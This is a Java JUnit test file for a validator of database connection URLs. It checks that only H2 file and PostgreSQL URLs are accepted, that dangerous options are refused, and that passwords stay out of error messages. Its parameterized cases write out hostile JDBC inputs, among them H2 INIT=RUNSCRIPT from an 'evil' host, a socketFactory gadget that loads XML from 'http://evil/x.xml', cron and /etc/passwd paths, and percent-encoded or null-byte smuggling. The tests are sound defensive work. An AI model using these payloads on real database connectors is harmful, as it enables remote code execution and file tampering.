package dev.storageapi.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.postgresql.Driver;

/** Row 22: which URLs are taken, and that no option gets in that could run code or write files. */
class DatabaseUrlTest {

  private static final String SECRET = "s3cr3t";

  private static DatabaseUrl of(String url) {
    return DatabaseUrl.of(url, "", "");
  }

  private static void assertRefused(String url, String why) {
    assertThatThrownBy(() -> of(url))
        .as(url)
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining(why)
        .extracting(Throwable::getMessage)
        .asString()
        .doesNotContain(SECRET, "s3c", "cret", "\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "init=DROP ALL OBJECTS",
        "Init=x",
        "INIT",
        "RUNSCRIPT=x",
        "TRACE_LEVEL_FILE=3",
        "TRACE_LEVEL_SYSTEM_OUT=3",
        "trace_max_file_size=1",
        "AUTO_SERVER=TRUE",
        "AUTO_SERVER_PORT=9092",
        "DB_CLOSE_DELAY=-1",
        "DB_CLOSE_ON_EXIT=TRUE",
        "FILE_LOCK=NO",
        "ACCESS_MODE_DATA=rws",
        "WRITE_DELAY=500",
        "RETENTION_TIME=0",
        "MODE=PostgreSQL",
        "IFEXISTS=FALSE",
        "CIPHER=AES",
        "USER=sa",
        "PASSWORD=s3cr3t",
        "DATABASE_EVENT_LISTENER='java.lang.Runtime'",
        "AUTHENTICATOR=TRUE",
        "JAVA_OBJECT_SERIALIZER='x'",
        "QUERY_TIMEOUT=0",
        "LOCK_MODE=0",
        "UNDO_LOG=0",
        "ınit=x",
        " INIT=x",
        "INIT =x",
        "\tINIT=x",
        "%49NIT=x",
        "INIT\\;CACHE_SIZE=1"
      })
  void anOptionOfH2ThatIsNotOnTheListIsRefused(String option) {
    for (String around :
        new String[] {
          "%s", "CACHE_SIZE=1024;%s", "%s;CACHE_SIZE=1024", ";;%s;", "MAX_COMPACT_TIME=1;%s"
        }) {
      assertRefused("jdbc:h2:file:./x;" + around.formatted(option), "not allowed");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "CACHE_SIZE=1\\;INIT=x",
        "CACHE_SIZE=1 INIT=x",
        "CACHE_SIZE=",
        "CACHE_SIZE",
        "CACHE_SIZE==1",
        "CACHE_SIZE=-1",
        "CACHE_SIZE=1e9",
        "CACHE_SIZE=(SELECT 1)",
        "MAX_COMPACT_TIME=9999999999",
        "MAX_COMPACT_TIME=1'",
        "CACHE_SIZE=٣",
        "CACHE_SIZE=1\n"
      })
  void aValueThatIsNoPlainNumberIsRefused(String option) {
    assertThatThrownBy(() -> of("jdbc:h2:file:./x;" + option))
        .isInstanceOf(IllegalArgumentException.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "None",
        "jdbc:h2:mem:x",
        "jdbc:h2:mem:",
        "jdbc:h2:./x",
        "jdbc:h2:x",
        "jdbc:h2:tcp://s3cr3t/x",
        "jdbc:h2:ssl://evil/x",
        "jdbc:h2:zip:./x.zip!/y",
        "jdbc:h2:nio:./x",
        "jdbc:h2:file:",
        "jdbc:h2:file:;INIT=x",
        "jdbc:h2:file:nio:./x",
        "jdbc:h2:file:split:20:./x",
        "jdbc:h2:file:classpath:x",
        "jdbc:h2:file:./x?INIT=x",
        "jdbc:h2:file:./x*",
        "jdbc:h2:file:./x\u0000",
        "jdbc:h2:file:./x\n;INIT=x",
        "JDBC:H2:FILE:./x",
        "jdbc:mysql://root:s3cr3t@host/x",
        "jdbc:sqlite:./x",
        "jdbc:postgresql:x",
        "jdbc:jdbc:postgresql://host/x",
        "http://u:s3cr3t@host/x",
        "file:./x",
        "ldap://evil/x"
      })
  void whatIsNeitherOfTheTwoDatabasesIsRefused(String url) {
    assertRefused(url, "neither none, nor jdbc:h2:file:PATH, nor postgresql://");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "socketFactoryArg=http://evil/x.xml",
        "sslfactory=x",
        "sslfactoryarg=x",
        "sslhostnameverifier=x",
        "sslpasswordcallback=x",
        "sslpassword=s3cr3t",
        "authenticationPluginClassName=x",
        "xmlFactoryFactory=x",
        "jaasApplicationName=x",
        "jaasLogin=true",
        "loggerFile=/etc/cron.d/x",
        "loggerLevel=TRACE",
        "logUnclosedConnections=true",
        "options=-c%20session_preload_libraries=x",
        "service=x",
        "passfile=/etc/passwd",
        "localSocketAddress=x",
        "replication=true",
        "assumeMinServerVersion=1",
        "socketTimeout=0",
        "connectTimeout=0",
        "loginTimeout=0",
        "PGHOST=evil",
        "PGDBNAME=x",
        "SOCKETFACTORY=x",
        "socketfactory=x",
        "%73ocketFactory=x",
        "socket%46actory=x",
        "socketFactory%3Dx",
        "socketFactory",
        "%20socketFactory=x",
        "User=x",
        "=x"
      })
  void anOptionOfPostgresqlThatIsNotOnTheListIsRefused(String option) {
    for (String around :
        new String[] {"%s", "sslmode=require&%s", "%s&sslmode=require", "&&%s&", "user=u&%s"}) {
      for (String prefix : new String[] {"", "jdbc:"}) {
        assertRefused(
            prefix + "postgresql://u:s3cr3t@host/x?" + around.formatted(option), "not allowed");
      }
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "postgresql://",
        "postgresql:///x",
        "postgresql://u:s3cr3t@host",
        "postgresql://u:s3cr3t@host/",
        "postgresql://u:s3cr3t@/x",
        "postgresql://u:s3cr3t@host/x/y",
        "postgresql://u:s3cr3t@host/x#socketFactory=y",
        "postgresql://u:s3c#r3t@host/x",
        "postgresql://u:s3c/r3t@host/x",
        "postgresql://u:s3c?r3t@host/x",
        "postgresql://u:s3c r3t@host/x",
        "postgresql://u:s3c%zzr3t@host/x",
        "postgresql://u:s3c%r3t@host/x",
        "postgresql://u:s3c\\r3t@host/x",
        "postgresql://u:s3cr3t@host/x;y=1",
        "postgresql://u:s3cr3t@ho;st/x",
        "postgresql://u:s3cr3t@host/x%00options%00-c",
        "postgresql://u:s3cr3t@host/x%0Ay",
        "postgresql://u%00options%00x:s3cr3t@host/x",
        "postgresql://host/x?user=u%00options&password=s3cr3t",
        "postgresql://host/x?password=s3c%zzr3t",
        "postgresql://host/x?sslmode%00=s3cr3t",
        "postgresql://host/x?password=s3c&r3t",
        "postgresql://host/x?password=&s3c=cret",
        "postgresql://host/x?password=s3&cret"
      })
  void aUrlOfPostgresqlThatIsNotWellFormedIsRefusedWithoutItsPassword(String url) {
    assertRefused(url, "");
  }

  @Test
  void theRootOfTheDiskIsNoFile() {
    assertRefused("jdbc:h2:file:/", "names a file");
    assertRefused("jdbc:h2:file:/x/..", "names a file");
  }

  @Test
  void aDatabaseInAFileMayHaveOptionsThatAreNumbers() {
    DatabaseUrl url =
        of("jdbc:h2:file:./a/../x;cache_size=2048;;MAX_COMPACT_TIME=5;CACHE_SIZE=1024;");

    assertThat(url.dialect()).isEqualTo(Dialect.H2);
    assertThat(url.file()).contains(Path.of("x").toAbsolutePath());
    assertThat(url.jdbc()).isEqualTo("jdbc:h2:file:" + Path.of("x").toAbsolutePath());
    assertThat(url.options()).isEqualTo(Map.of("CACHE_SIZE", "1024", "MAX_COMPACT_TIME", "5"));
    assertThat(url.properties(Duration.ofSeconds(1)))
        .containsEntry("WRITE_DELAY", "0")
        .containsEntry("DB_CLOSE_ON_EXIT", "FALSE");
  }

  @Test
  void aServerIsNamedWithCredentialsInFrontAmongTheOptionsOrBeside() {
    for (String text :
        new String[] {
          "postgresql://u:s3cr3t@host:5433/x?sslmode=verify-full",
          "postgres://u:s3cr3t@host:5433/x?sslmode=verify-full",
          "jdbc:postgresql://u:s3cr3t@host:5433/x?sslmode=verify-full",
          "jdbc:postgresql://host:5433/x?user=u&sslmode=verify-full&password=s3cr3t",
          "jdbc:postgresql://host:5433/x?user=%75&ssl%6Dode=verify-full&password=s3%63r3t"
        }) {
      DatabaseUrl url = of(text);

      assertThat(url.dialect()).isEqualTo(Dialect.POSTGRESQL);
      assertThat(url.jdbc()).isEqualTo("jdbc:postgresql://host:5433/x");
      assertThat(url.user()).isEqualTo("u");
      assertThat(url.password()).isEqualTo(SECRET);
      assertThat(url.options()).isEqualTo(Map.of("sslmode", "verify-full"));
      assertThat(url.toString()).isEqualTo("PostgreSQL at host:5433/x");
    }
    DatabaseUrl beside = DatabaseUrl.of("postgresql://other:wrong@host/x", "u", SECRET);
    assertThat(beside.user()).isEqualTo("u");
    assertThat(beside.password()).isEqualTo(SECRET);
  }

  @Test
  void aPasswordMayHoldAnyCharacterPercentEncoded() {
    assertThat(of("postgresql://u:%40%3A%2F%3F%23%25+%26@host/x").password()).isEqualTo("@:/?#%+&");
    assertThat(of("postgresql://u:a:b@host/x").password()).isEqualTo("a:b");
    assertThat(of("postgresql://host/x?user=u&password=%26+%3D=").password()).isEqualTo("&+==");
  }

  @Test
  void whatLooksLikeAnOptionInTheNameOfTheDatabaseIsNoneForTheDriverEither() {
    String jdbc = of("postgresql://host/x%3FsocketFactory%3Dy%26loggerFile%3Dz").jdbc();

    assertThat(Driver.parseURL(jdbc, null))
        .containsEntry("PGDBNAME", "x?socketFactory=y&loggerFile=z")
        .doesNotContainKeys("socketFactory", "loggerFile");
  }

  @Test
  void severalHostsAndAddressesOfIpv6AreTaken() {
    assertThat(of("postgresql://u:p@a:1,b:2/x?targetServerType=primary").jdbc())
        .isEqualTo("jdbc:postgresql://a:1,b:2/x");
    assertThat(of("postgresql://u:p@[::1]:5432/x").jdbc())
        .isEqualTo("jdbc:postgresql://[::1]:5432/x");
  }

  @Test
  void whoHasLongForAStatementDoesNotWaitAsLongToConnect() {
    assertThat(of("postgresql://host/x").properties(Duration.ofMinutes(10)))
        .containsEntry("socketTimeout", "601")
        .containsEntry("connectTimeout", "11");
  }

  @Test
  void anOptionCannotReplaceOneOfOurs() {
    Map<String, String> ours =
        of("postgresql://host/x?ApplicationName=other").properties(Duration.ofMillis(750));

    assertThat(ours)
        .containsEntry("socketTimeout", "1")
        .containsEntry("connectTimeout", "1")
        .containsEntry("ApplicationName", "other");
  }
}
